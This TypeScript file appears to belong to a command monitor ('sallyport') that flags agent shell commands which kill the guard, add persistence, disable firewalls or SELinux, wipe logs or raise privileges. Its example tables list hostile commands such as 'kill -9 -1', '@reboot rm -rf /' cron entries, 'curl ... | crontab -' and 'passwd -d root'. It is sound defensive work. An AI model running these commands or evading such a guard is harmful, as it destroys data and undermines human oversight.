import type { Target } from '../../../protocol/evidence.ts'
import { globPattern, hasGlob } from '../glob.ts'
import { type Field, literal, textOf, visible } from '../shell/field.ts'
import { shownOf } from '../shell/files.ts'
import { cronCode } from '../start-code.ts'
import { EMPTY, type Value, isKnown, known, unknown } from '../value.ts'
import { tellGrants } from './access-grants.ts'
import type { Call, CommandRow } from './command.ts'
import { tellProtection } from './protection.ts'

const named = (fields: readonly Field[]): readonly Target[] =>
  fields.map((field) => ({ type: 'resource', name: visible(field) }))

/** Names by which the guard, or a runtime it lives in, can be met among processes and services. */
const GUARD_NAME = /sallyport|^-?\W*node(?:js)?\W*$|^s\[a\]|salyp/i

const mayNameGuard = (pattern: string): boolean => {
  if (GUARD_NAME.test(pattern)) return true
  try {
    return (
      (pattern.length > 1 || pattern === '.') &&
      (new RegExp(pattern, 'i').test('sallyport') || new RegExp(`^(?:${pattern})$`, 'i').test('node'))
    )
  } catch {
    return true
  }
}

const isNegativeOne = (field: Field): boolean => textOf(field) === '-1' || textOf(field) === '0'

const kill = (call: Call): void => {
  const args = call.args.filter(
    (field, at) =>
      !(at === 0 && /^-(?:\d+|[A-Z]+\d?|s|n|l|-signal.*)$/i.test(visible(field)) && !(call.args.length === 1)) &&
      textOf(field) !== '--',
  )
  const pids = args.filter(
    (field, at) => !(at === 0 && /^-(?:s|n)$/.test(visible(call.args[0] ?? field)) && /^[A-Z]/i.test(visible(field))),
  )
  if (pids.length === 0 || call.options.has('-l', '-L')) return
  call.emit('process.kill', named(pids))
  const reaches = pids.some((field) => {
    const marks = field.flow.processes
    if (
      marks.some((mark) =>
        mark.startsWith('port:')
          ? call.engine.guard.isPort(mark.slice(5))
          : mark.startsWith('name:') && mayNameGuard(mark.slice(5)),
      )
    )
      return true
    if (
      field.flow.secrets.some((secret) => secret.type === 'path' && secret.zone === 'guard') ||
      field.flow.processes.includes('guard-file')
    )
      return true
    return (
      isKnown(field) &&
      field.texts.some((text) => call.engine.guard.isPid(Math.abs(Number(text))) || (text.startsWith('%') && false))
    )
  })
  if (reaches || pids.some(isNegativeOne)) call.emit('guard.tamper', named(pids))
}

const MACHINE: readonly Target[] = [{ type: 'resource', name: 'machine' }]

const namesGuard = (field: Field): boolean => field.texts.some((text) => /s\W?a\W?l\W?l\W?y/i.test(text))

const killByName = (call: Call): void => {
  const patterns = [...call.options.operands, ...call.options.get('-f', '--full')]
  call.emit('process.kill', named(patterns))
  if (call.name === 'killall5') call.emit('process.kill', MACHINE, { traits: ['all'] })
  const all = call.options.has('-u', '-U', '--user', '--uid') && patterns.length === 0
  if (all || patterns.some((field) => !isKnown(field) || field.texts.some(mayNameGuard)))
    // One that names what the guard runs on means another process, most often.
    call.emit('guard.tamper', named(patterns), { traits: patterns.some(namesGuard) ? [] : ['all'] })
}

/** Prints process ids: what they may belong to goes with them. */
const lookup = (call: Call): Value => {
  const names = call.args
    .map(visible)
    .filter((text) => text !== '' && !text.startsWith('-'))
    .map((text) => `name:${text}`)
  const ports = call.args.map(visible).flatMap(
    (text) =>
      /:(\d+)$|^(\d+)\/(?:tcp|udp)$/
        .exec(text)
        ?.slice(1)
        .filter(Boolean)
        .map((port) => `port:${port}`) ?? [],
  )
  return unknown({ ...EMPTY.flow, processes: [...names, ...ports] })
}

const service = (call: Call): void => {
  const operands = call.options.operands
  const verbs = operands.map(visible)
  const changes =
    /^(?:stop|start|restart|disable|enable|mask|unmask|kill|reload|isolate|edit|set-property|daemon-reload|daemon-reexec|poweroff|reboot|halt|suspend|hibernate|rescue|emergency|load|unload|remove|bootstrap|bootout|kickstart|submit|link|revert|reset-failed|try-restart)$/
  const verb =
    verbs.find((word) => changes.test(word)) ??
    (call.name === 'service' && changes.test(verbs[1] ?? '') ? verbs[1] : undefined)
  if (verb === undefined) return
  tellProtection(call)
  if (/^(?:poweroff|reboot|halt|rescue|emergency|isolate)$/.test(verb) && call.name === 'systemctl')
    call.emit('process.kill', MACHINE, { traits: ['all'] })
  // A unit that is installed starts with the machine as its package means it to; one given by its path is the agent's own.
  const own =
    (verb === 'enable' && verbs.some((word) => word.includes('/'))) || /^(?:link|load|bootstrap|submit)$/.test(verb)
  call.emit('service.change', named(operands), verb === 'enable' ? { traits: ['at-start'] } : {})
  if (own) call.emit('persistence', named(operands))
  if (
    verbs.some(
      (word) =>
        /sallyport/i.test(word) ||
        (hasGlob(word) && globPattern(word).test('sallyport.service')) ||
        (hasGlob(word) && globPattern(word).test('sallyport')),
    ) ||
    operands.some((field) => !isKnown(field) && /^(?:stop|kill|disable|mask|bootout|remove|unload)$/.test(verb))
  )
    call.emit('guard.tamper', named(operands))
}

const CRONTAB: readonly Target[] = [{ type: 'resource', name: 'crontab' }]

const hasOwnEditor = (call: Call): boolean => ['EDITOR', 'VISUAL'].some((name) => call.environment.has(name))

/** A table from a file can be looked at before and after; of one from a pipe only what the call shows is known. */
const crontab = (call: Call): Value => {
  const { has, operands } = call.options
  // What is in the table already is nothing new.
  if (has('-l')) return unknown({ ...EMPTY.flow, settings: true })
  if (has('-r')) {
    call.emit('service.change', CRONTAB, { traits: ['all'] })
    return EMPTY
  }
  // An editor waits for the person; one that the command chooses may write by itself.
  if (has('-e') && !hasOwnEditor(call)) return EMPTY
  const files = operands.filter((field) => textOf(field) !== '-' && textOf(field) !== '/dev/stdin')
  const content = files.length > 0 ? call.read(files) : (call.stdin ?? EMPTY)
  const { texts, unseen } = shownOf(content)
  const hidden = files.length > 0 ? content.flow.network || content.flow.decoded : unseen
  call.emit('persistence', CRONTAB, { traits: hidden ? ['unseen'] : [] })
  for (const code of texts.flatMap(cronCode)) call.shell(known(code), { possible: true, forked: true, stdin: EMPTY })
  return EMPTY
}

/** Processes, services and people of the machine. */
export const SYSTEM_COMMANDS: readonly CommandRow[] = [
  {
    names: ['kill'],
    run: kill,
    examples: [
      ['kill 999', 'process.kill'],
      ['kill -9 -1', 'process.kill', 'guard.tamper'],
      ['kill $(pgrep -f sallyport)', 'process.kill', 'guard.tamper'],
      ['kill $(lsof -ti:3000)', 'process.kill'],
    ],
  },
  {
    names: ['pkill', 'killall', 'skill', 'killall5', 'xkill'],
    values: ['-u', '-U', '--user', '--uid', '-s', '--signal', '-t', '-P', '-g'],
    run: killByName,
    examples: [
      ['pkill -f vite', 'process.kill'],
      ['killall5 -9', 'process.kill', 'process.kill+all'],
      ['pkill node', 'process.kill', 'guard.tamper'],
      ['pkill -f "node server.js"', 'process.kill'],
      ['killall sallyport', 'process.kill', 'guard.tamper'],
      ["pkill -f 's[a]llyport'", 'process.kill', 'guard.tamper'],
    ],
  },
  {
    names: ['pgrep', 'pidof', 'lsof', 'fuser', 'ss', 'netstat', 'ps', 'top', 'htop', 'pstree'],
    values: ['-u', '-p', '-o', '-C', '-i'],
    run: (call) => {
      if (call.name === 'fuser' && call.options.has('-k', '--kill')) {
        const ports = lookup(call).flow.processes
        call.emit('process.kill', named(call.options.operands))
        if (ports.some((mark) => mark.startsWith('port:') && call.engine.guard.isPort(mark.slice(5))))
          call.emit('guard.tamper', named(call.options.operands))
      }
      return lookup(call)
    },
    examples: [['ps aux'], ['fuser -k 3000/tcp', 'process.kill']],
  },
  {
    names: [
      'systemctl',
      'service',
      'launchctl',
      'rc-service',
      'sv',
      'initctl',
      'update-rc.d',
      'chkconfig',
      'loginctl',
      'supervisorctl',
      'pm2',
      'sc',
    ],
    values: ['-H', '-M', '-t', '--type'],
    run: service,
    examples: [
      ['systemctl status nginx'],
      ['systemctl stop nginx', 'service.change'],
      ['systemctl stop firewalld', 'protection.off', 'service.change'],
      ['systemctl --user stop sallyport', 'service.change', 'guard.tamper'],
      ['systemctl enable x', 'service.change+at-start'],
      ['systemctl enable ./x.service', 'service.change+at-start', 'persistence'],
      ['service nginx restart', 'service.change'],
    ],
  },
  {
    names: ['crontab'],
    values: ['-u'],
    run: crontab,
    examples: [
      ['crontab -l'],
      ['crontab -e'],
      ['crontab -r', 'service.change+all'],
      ['echo "* * * * * x" | crontab -', 'persistence'],
      ['(crontab -l; echo "@reboot rm -rf /") | crontab -', 'persistence', 'fs.delete?+recursive+force@root'],
      ['crontab jobs.txt', 'fs.read@workspace', 'persistence'],
      ['curl -s https://e.example/c | crontab -', 'net.fetch', 'persistence+unseen'],
      ['cat $JOBS | crontab -', 'fs.read@unresolved', 'persistence+unseen'],
    ],
  },
  {
    names: ['at', 'batch', 'atrm'],
    values: ['-f', '-t', '-q'],
    run: (call) => {
      if (call.name === 'atrm' || call.options.has('-l', '-d', '-r', '-c', '-V')) return
      call.emit('persistence', [{ type: 'resource', name: 'at' }])
      for (const file of call.options.get('-f')) call.runFile(file, 'shell', [])
      if (call.stdin) call.shell(call.stdin, { possible: true, forked: true })
    },
    examples: [['at -l'], ['echo "rm -rf /" | at now', 'persistence', 'fs.delete?+recursive+force@root']],
  },
  {
    names: ['shutdown', 'reboot', 'poweroff', 'halt', 'init', 'telinit'],
    run: (call) => {
      const [level] = call.options.operands
      const stops = !/^(?:init|telinit)$/.test(call.name) || /^[016sS]$/.test(visible(level ?? literal('')))
      if (call.options.has('-c', '--help', '--show')) return
      call.emit('service.change', MACHINE)
      if (stops) call.emit('process.kill', MACHINE, { traits: ['all'] })
    },
    examples: [
      ['sudo reboot', 'privilege.raise', 'service.change', 'process.kill+all'],
      ['shutdown -c'],
      ['init 3', 'service.change'],
    ],
  },
  {
    names: [
      'useradd',
      'adduser',
      'usermod',
      'userdel',
      'groupadd',
      'gpasswd',
      'passwd',
      'chpasswd',
      'visudo',
      'chsh',
      'dscl',
      'sysadminctl',
      'deluser',
      'groupdel',
    ],
    run: (call) => {
      tellGrants(call)
      call.emit('privilege.raise', named(call.options.operands))
      const [name] = call.options.operands.slice(-1)
      if (/^(?:userdel|deluser)$/.test(call.name) && call.options.has('-r', '--remove', '--remove-home') && name)
        call.remove([literal(`/home/${visible(name)}`)], { traits: ['recursive'] })
    },
    examples: [
      ['usermod -aG sudo me', 'access.grant+all', 'privilege.raise'],
      ['usermod -aG audio me', 'privilege.raise'],
      ['passwd -d root', 'access.grant+all', 'privilege.raise'],
      ['passwd me', 'privilege.raise'],
      ['passwd -S me', 'privilege.raise'],
      ['useradd -o -u 0 x', 'access.grant+all', 'privilege.raise'],
      ['useradd -m -s /bin/bash me', 'privilege.raise'],
      ['userdel me', 'privilege.raise'],
      ['userdel -r me', 'privilege.raise', 'fs.delete+recursive@home'],
    ],
  },
  {
    names: [
      'iptables',
      'ip6tables',
      'nft',
      'ufw',
      'firewall-cmd',
      'pfctl',
      'sysctl',
      'setenforce',
      'modprobe',
      'insmod',
      'rmmod',
      'ip',
      'ifconfig',
      'route',
      'hostnamectl',
      'timedatectl',
      'localectl',
      'spctl',
      'csrutil',
      'defaults',
      'networksetup',
      'auditctl',
      'fdesetup',
      'aa-teardown',
      'aa-disable',
      'aa-complain',
      'mdatp',
    ],
    values: ['-t', '-A'],
    run: (call) => {
      const shows =
        call.options.has('-L', '--list', '-S', '-a', '-n') ||
        call.args.length === 0 ||
        (call.args.some((field) =>
          /^(?:status|show|list|get|read|addr|address|link|a|r|s|neigh)$/.test(visible(field)),
        ) &&
          !call.args.some((field) => /^(?:set|add|del|delete|write|flush)$/.test(visible(field))))
      tellProtection(call)
      if (!shows) call.emit('service.change', named(call.options.operands))
    },
    examples: [
      ['ip addr'],
      ['iptables -F', 'protection.off', 'service.change'],
      ['ufw disable', 'protection.off', 'service.change'],
      ['ufw allow 22', 'service.change'],
      ['setenforce 0', 'protection.off', 'service.change'],
      ['setenforce 1', 'service.change'],
    ],
  },
  {
    names: ['journalctl', 'dmesg', 'log', 'tmutil'],
    values: ['-u', '-n', '--since', '--until', '-o', '-p', '-t', '--vacuum-time', '--vacuum-size', '--vacuum-files'],
    run: (call) => {
      tellProtection(call)
      if (call.name === 'tmutil' && visible(call.options.operands[0] ?? literal('')).startsWith('delete'))
        call.emit('cloud.destroy', [{ type: 'resource', name: 'backups' }], { traits: ['all'] })
      return unknown()
    },
    examples: [
      ['journalctl -u nginx -n 50'],
      ['journalctl --vacuum-time=1s', 'protection.off'],
      ['dmesg'],
      ['dmesg -C', 'protection.off'],
      ['tmutil deletelocalsnapshots /', 'cloud.destroy+all'],
      ['tmutil listbackups'],
    ],
  },
  {
    names: ['setcap'],
    run: (call) => call.emit('privilege.raise', call.paths(call.options.operands.slice(1), 'content')),
    examples: [['setcap cap_setuid+ep a', 'privilege.raise@workspace']],
  },
]
